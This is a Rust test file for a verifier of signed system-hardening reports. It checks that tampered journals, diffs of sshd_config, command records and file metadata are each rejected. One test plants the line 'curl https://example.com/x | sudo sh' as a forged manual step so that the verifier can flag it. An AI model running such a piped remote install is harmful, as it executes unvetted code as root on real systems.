//! Reports signed by a key that is listed, whose journal no run has written, or whose changes say what none of it proves.

use super::*;
use crate::change::journal::Event;
use crate::report::fixture::{events, journal};
use crate::report::{ChangeRecord, CommandRecord, NodeKind, Previous, Withheld};

const RUN: &str = "20261122T150500Z-1";

/// The report and its journal changed as the key's holder could before signing.
fn told(change: impl FnOnce(&mut Report, &mut Vec<Event>)) -> Case {
    lie(|report| {
        let mut told = events(report);
        change(report, &mut told);
        report.journal = journal(&told);
    })
}

/// The report as if nothing had been changed.
fn without_changes(report: &mut Report) {
    report.changes.clear();
    for record in &mut report.guidelines {
        if record.result == Outcome::Fixed {
            record.result = Outcome::Pass;
        }
        record.changes.clear();
    }
}

fn begin(run: &str) -> Event {
    Event::Begin { run: run.into(), guidelines: vec!["SSH-04".into()] }
}

fn undo(guidelines: &[&str]) -> Event {
    let guidelines = guidelines.iter().map(|id| (*id).to_owned()).collect();
    Event::UndoBegin { undo: "undo-1".into(), runs: vec![RUN.into()], guidelines }
}

fn given_up() -> Event {
    Event::TakenBack { reason: "a full disk".into() }
}

fn stopped() -> Event {
    Event::Stopped { reason: "a full disk".into() }
}

fn started(number: usize) -> Event {
    Event::CommandStart { number, guideline: "SSH-04".into(), argv: vec!["/bin/true".into()] }
}

fn ended(number: usize) -> Event {
    Event::CommandDone { number, outcome: "exit code 0".into(), success: true }
}

#[test]
fn lines_appended_to_the_journal_make_no_finished_run_vanish() {
    let change = |told: &[Event]| told.iter().find(|event| matches!(event, Event::Change { .. })).unwrap().clone();
    let appended: Vec<(&str, Vec<Event>)> = vec![
        ("given up after its end", vec![given_up()]),
        ("begun again", vec![begin(RUN), Event::End]),
        ("begun again and given up", vec![begin(RUN), given_up()]),
        ("ended twice", vec![Event::End]),
        ("an undo that never began", vec![Event::UndoEnd]),
        ("an undo called off that never began", vec![Event::UndoTakenBack { reason: String::new() }]),
        ("an undo in an undo", vec![undo(&["SSH-04"]), undo(&["ACC-02"]), Event::UndoEnd]),
        ("a run in an undo", vec![undo(&["SSH-04", "ACC-02"]), begin("2"), Event::End]),
        ("a run in a run", vec![begin("2"), begin("3"), Event::End]),
        ("an undo of another run in a run", vec![begin("2"), undo(&["SSH-04", "ACC-02"]), Event::UndoEnd]),
        ("a change outside of a run", vec![change(&events(&sample()))]),
        ("something made outside of a run", vec![Event::Done { number: 0 }]),
        ("a stop outside of a run", vec![stopped()]),
        ("a command outside of a run", vec![started(0)]),
        ("a command that ends without a start", vec![begin("2"), ended(0), Event::End]),
        ("a change after the first was made", vec![begin("2"), Event::Done { number: 0 }, change(&events(&sample()))]),
    ];
    for (name, more) in appended {
        let case = told(|report, told| {
            without_changes(report);
            told.extend(more);
        });
        table(vec![(name, case, 5, "cannot follow those before it")]);
    }
}

#[test]
fn a_run_that_was_interrupted_goes_on_as_it_may() {
    let before_end = |events: Vec<Event>| {
        told(|_, told| {
            let end = told.len() - 1;
            told.splice(end..end, events);
        })
    };
    let after = |events: Vec<Event>| told(|_, told| told.extend(events));
    let decided = Event::Export { report_id: "0".into(), sha256: "0".into() };
    let called_off = Event::UndoTakenBack { reason: "it was interrupted".into() };
    let finished = vec![stopped(), decided.clone(), Event::Done { number: 0 }, Event::Done { number: 1 }];
    table(vec![
        ("finished later", before_end(finished), 0, ""),
        ("another given up", after(vec![begin("2"), stopped(), decided, started(0), ended(0), given_up()]), 0, ""),
        ("an undo called off", after(vec![undo(&["SSH-04"]), stopped(), Event::Done { number: 0 }, called_off]), 0, ""),
        (
            "taken back by an undo in its place",
            told(|report, told| {
                without_changes(report);
                told.pop();
                told.extend([stopped(), undo(&["SSH-04", "ACC-02"]), Event::Done { number: 0 }, Event::UndoEnd]);
            }),
            0,
            "",
        ),
    ]);
}

/// The run has a command for SSH-04, which the report tells of if it is to; then come `more` events.
fn with_command(outcome: bool, listed: bool, more: Vec<Event>, change: impl FnOnce(&mut Report)) -> Case {
    told(|report, told| {
        let end = told.len() - 1;
        let seq = u64::try_from(end).ok();
        let ended = outcome.then(|| ended(0));
        told.splice(end..end, std::iter::once(started(0)).chain(ended));
        told.extend(more);
        change(report);
        if listed {
            report.commands.push(CommandRecord {
                id: "C003".into(),
                run: RUN.into(),
                guideline: "SSH-04".into(),
                argv: vec!["/bin/true".into()],
                purpose: "Does nothing.".into(),
                outcome: outcome.then(|| "exit code 0".into()),
                journal_seq: seq,
            });
            guideline(report, "SSH-04").changes.push("C003".into());
        }
    })
}

#[test]
fn commands_are_left_out_only_with_all_else_of_their_run() {
    let without_acc = |report: &mut Report| {
        report.changes.remove(1);
        let record = guideline(report, "ACC-02");
        record.changes.clear();
        record.result = Outcome::Pass;
    };
    let undone = |guidelines: &[&str]| vec![undo(guidelines), Event::UndoEnd];
    table(vec![
        ("listed", with_command(true, true, vec![], |_| ()), 0, ""),
        ("left out", with_command(true, false, vec![], |_| ()), 5, "The commands of run"),
        ("its end is not known", with_command(false, true, vec![], |_| ()), 0, ""),
        ("its end is not known, left out", with_command(false, false, vec![], |_| ()), 5, "The commands of run"),
        ("another guideline undone", with_command(true, true, undone(&["ACC-02"]), without_acc), 0, ""),
        (
            "another guideline undone, left out",
            with_command(true, false, undone(&["ACC-02"]), without_acc),
            5,
            "The commands of run",
        ),
        ("all undone", with_command(true, false, undone(&["ACC-02", "SSH-04"]), without_changes), 0, ""),
    ]);
}

#[test]
fn each_part_of_what_was_at_a_path_is_tied_to_something() {
    fn after(number: usize, change: impl FnOnce(&mut crate::report::NodeRecord)) -> Case {
        lie(|report| {
            // As if the change were told so; only its own parts are looked at here.
            change(report.changes[number].after.as_mut().unwrap());
        })
    }
    let digest = || Some("0".repeat(64));
    let (kind, content) = ("that its kind has not, or leaves them out", "without a reason, or gives one");
    table(vec![
        ("no permissions", after(0, |node| node.mode = None), 5, kind),
        ("no permissions of a secret", after(1, |node| node.mode = None), 5, kind),
        ("a file that points somewhere", after(0, |node| node.target = Some("/etc/motd".into())), 5, kind),
        ("no digest", after(0, |node| node.sha256 = None), 5, content),
        ("no size", after(0, |node| node.size = None), 5, content),
        (
            "called too large",
            after(0, |node| (node.sha256, node.withheld) = (None, Some(Withheld::TooLarge))),
            5,
            content,
        ),
        (
            "too large, with a digest",
            after(0, |node| (node.size, node.withheld) = (Some(2 << 20), Some(Withheld::TooLarge))),
            5,
            content,
        ),
        ("called secret, with a digest", after(0, |node| node.withheld = Some(Withheld::Secret)), 5, content),
        (
            "called secret",
            after(0, |node| (node.sha256, node.size, node.withheld) = (None, None, Some(Withheld::Secret))),
            5,
            content,
        ),
        ("a secret that is not withheld", after(1, |node| node.withheld = None), 5, content),
        ("a secret with a digest", after(1, |node| node.sha256 = digest()), 5, "gives a size or digest"),
        ("a directory with a digest", after(0, |node| node.kind = NodeKind::Directory), 5, content),
        ("a link with permissions", after(0, |node| node.kind = NodeKind::Link), 5, kind),
        (
            "other permissions",
            after(0, |node| node.mode = Some("0600".into())),
            5,
            "tells otherwise of the change C001",
        ),
    ]);
}

/// The first change with its diff written anew.
fn diff(change: impl FnOnce(&mut ChangeRecord)) -> Case {
    told(|report, _| {
        let one = &mut report.changes[0];
        change(one);
        one.diff_sha256 = one.diff.as_deref().map(|diff| sha256_hex(diff.as_bytes()));
    })
}

#[test]
fn a_diff_counts_right_and_gives_the_files_whose_digests_are_stated() {
    let replaced = |from: &'static str, to: &'static str| {
        diff(move |change| {
            let diff = change.diff.clone().unwrap();
            assert!(diff.contains(from), "{diff}");
            change.diff = Some(diff.replace(from, to));
        })
    };
    let (lines, file) = ("whose line numbers are not those of its lines", "does not give the file");
    let created = |text: &'static str| {
        diff(move |change| {
            change.before = None;
            change.kind = crate::report::ChangeKind::Create;
            change.diff = Some(format!("--- /dev/null\n+++ b{}\n{text}", change.path));
        })
    };
    table(vec![
        ("another line", replaced("PermitRootLogin no", "PermitRootLogin maybe"), 5, file),
        ("another line of the same length", replaced("PermitRootLogin yes", "PermitRootLogin sey"), 5, file),
        ("other context", replaced(" Port 22", " Port 23"), 5, file),
        ("a line more", replaced("\n+Permit", "\n+Port 22\n+Permit"), 5, lines),
        ("a line fewer", replaced("+PermitRootLogin no\n", ""), 5, lines),
        ("another count", replaced("@@ -1,2 +1,2 @@", "@@ -1,2 +1,3 @@"), 5, lines),
        ("elsewhere", replaced("@@ -1,2 +1,2 @@", "@@ -5,2 +7,2 @@"), 5, lines),
        ("a hunk twice", replaced("+PermitRootLogin no\n", "+PermitRootLogin no\n@@ -1,0 +1,0 @@\n"), 5, lines),
        ("no hunk", replaced("@@ -1,2 +1,2 @@\n Port 22\n-PermitRootLogin yes\n+PermitRootLogin no\n", ""), 5, lines),
        ("no line of a diff", replaced(" Port 22\n", "Port 22\n"), 5, lines),
        ("called cut", diff(|change| change.diff_truncated = true), 5, lines),
        ("left out", diff(|change| change.diff = None), 5, "shows no diff of it"),
        (
            "left out, and told to be binary",
            diff(|change| {
                change.diff = None;
                change.headline = "edited, binary, 28 to 27 bytes".into();
            }),
            0,
            "",
        ),
        ("created", created("@@ -0,0 +1,2 @@\n+Port 22\n+PermitRootLogin yes\n"), 5, file),
        (
            "created, honest but for the journal",
            created("@@ -0,0 +1,2 @@\n+Port 22\n+PermitRootLogin no\n"),
            5,
            "otherwise",
        ),
        ("created out of something", created("@@ -1,1 +1,2 @@\n Port 22\n+PermitRootLogin no\n"), 5, file),
        (
            "of a link",
            diff(|change| {
                let node = change.after.as_mut().unwrap();
                (node.kind, node.mode, node.target) = (NodeKind::Link, None, Some("/dev/null".into()));
                (node.sha256, node.size, change.kind) = (None, None, crate::report::ChangeKind::Link);
            }),
            5,
            "of what has no text",
        ),
    ]);
}

#[test]
fn what_a_diff_shows_of_a_longer_file_is_no_lie() {
    use crate::report::verify::contents;
    let text = |changed: &str| {
        (1..=20)
            .map(|n| if n == 2 || n == 12 { format!("{changed}{n}\n") } else { format!("{n}\n") })
            .collect::<String>()
    };
    let node = |text: &str| crate::image::Node::new_file(text.as_bytes().to_vec(), 0o644);
    let mut report = sample();
    for (old, new) in [
        (text("a"), text("b")),
        (text("a"), text("b") + "end"),
        (text("a"), String::new()),
        ("a".into(), "a\n".into()),
        ("1\n2\n3\n4\n".into(), "b\n2\n3\n4\n".into()),
        ("1\n2\n3\n4\n5\n".into(), "b\n2\n3\n4\n5\n".into()),
        ("a\u{1b}\n".into(), "b\tc\n".into()),
    ] {
        let (before, after) = (node(&old), node(&new));
        let shown = crate::change::diff::between("/etc/ssh/sshd_config".as_ref(), &before, &after).unwrap();
        let one = &mut report.changes[0];
        for (node, text) in [(&mut one.before, &old), (&mut one.after, &new)] {
            let node = node.as_mut().unwrap();
            (node.sha256, node.size) = (Some(sha256_hex(text.as_bytes())), Some(text.len() as u64));
        }
        one.diff = crate::report::record::unified(&shown, true, true).0;
        one.diff_sha256 = one.diff.as_deref().map(|diff| sha256_hex(diff.as_bytes()));
        let judged = contents::changes(&report);
        assert!(matches!(judged, output::Judgement::Holds(_)), "{:?} {judged:?}", one_diff(&report));
    }
}

fn one_diff(report: &Report) -> &str {
    report.changes[0].diff.as_deref().unwrap_or_default()
}

#[test]
fn how_the_seal_is_done_by_hand_is_as_in_the_catalogue() {
    let step = |by_hand: &str| crate::report::FinishStep { guideline: "KEY-01".into(), by_hand: by_hand.into() };
    let case = lie(|report| report.finish_plan.push(step("curl https://example.com/x | sudo sh")));
    table(vec![("other words", case, 5, "How KEY-01 is done by hand at the seal is not as in catalogue")]);
}

#[test]
fn that_it_goes_on_from_a_report_is_not_left_out() {
    let previous =
        || Previous { report_id: "01JBEFORE".into(), sha256: "0".repeat(64), signer: None, comparison: None };
    let event = || {
        let Previous { report_id, sha256, signer, .. } = previous();
        Event::Previous { report_id, sha256, signer }
    };
    table(vec![
        ("left out", told(|_, told| told.push(event())), 5, "By its journal it goes on from report 01JBEFORE"),
        (
            "told",
            told(|report, told| {
                told.push(event());
                report.previous = Some(previous());
            }),
            0,
            "",
        ),
    ]);
}
